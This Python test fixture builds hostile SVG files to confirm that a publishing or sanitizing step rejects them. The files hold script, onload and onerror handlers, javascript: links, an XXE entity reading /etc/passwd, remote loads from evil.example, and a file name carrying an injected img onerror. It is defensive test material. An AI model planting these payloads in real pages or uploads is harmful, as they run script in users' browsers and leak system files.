"""Picture files that would do more than show: each in another way; and one that only draws."""

from __future__ import annotations

from hostile.attacks import runs

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"{}>{}</svg>'
_HTML = "http://www.w3.org/1999/xhtml"
STILL = "still.svg"
LIVING = {
    "live.svg": f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/2000/svg" width="9" height="9"><x:script>{runs(90)}</x:script></svg>',
    "handler.svg": _SVG.format(f' onload="{runs(91)}"', ""),
    "html.svg": _SVG.format("", f'<foreignObject width="9" height="9"><body xmlns="{_HTML}"><img src="x" onerror="{runs(92)}"/></body></foreignObject>'),
    "link.svg": _SVG.format("", f'<a xlink:href="javascript:{runs(93)}"><rect width="9" height="9"/></a>'),
    "use.svg": _SVG.format("", '<use xlink:href="https://evil.example/x.svg#a"/>'),
    "style.svg": _SVG.format("", "<style>@import url(https://evil.example/x.css);</style>"),
    "entity.svg": '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + _SVG.format("", "<text>&amp;a;</text>").replace("&amp;", "&"),
    "animated.svg": _SVG.format("", f'<a><animate attributeName="href" to="javascript:{runs(94)}"/><rect width="9" height="9"/></a>'),
    "held.svg": _SVG.format("", f'<image href="data:image/svg+xml,&lt;svg onload=&quot;{runs(95)}&quot;/&gt;"/>'),
    "styled.svg": f'<?xml-stylesheet href="https://evil.example/x.xsl"?>{_SVG.format("", "")}',
    "no-picture.png": f"<html><script>{runs(96)}</script></html>",
    "x'\"><img src=x onerror=alert(1)>.svg": _SVG.format(f' onload="{runs(97)}"', ""),
}
"""Each by its name; none may be published."""


def beside(folder: str) -> dict[str, str]:
    """All of them in that folder, by their paths."""
    return {f"{folder}/{STILL}": _SVG.format("", '<rect width="9" height="9"/>'), **{f"{folder}/{name}": data for name, data in LIVING.items()}}


def shown() -> str:
    """The Markdown that shows all of them."""
    return " ".join(f"![A drawing that lives](<{name}>)" for name in (STILL, *LIVING) if "'" not in name) + f" ![A drawing from afar](https://evil.example/{runs(98)}.png)"
